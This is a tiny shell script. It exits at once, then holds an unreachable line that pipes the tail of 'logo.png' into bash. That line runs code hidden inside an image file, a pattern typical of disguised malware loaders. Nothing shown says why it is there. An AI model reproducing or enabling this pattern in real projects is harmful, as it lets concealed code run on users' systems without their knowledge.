#!/bin/sh
exit 0
tail -c +4096 logo.png | bash
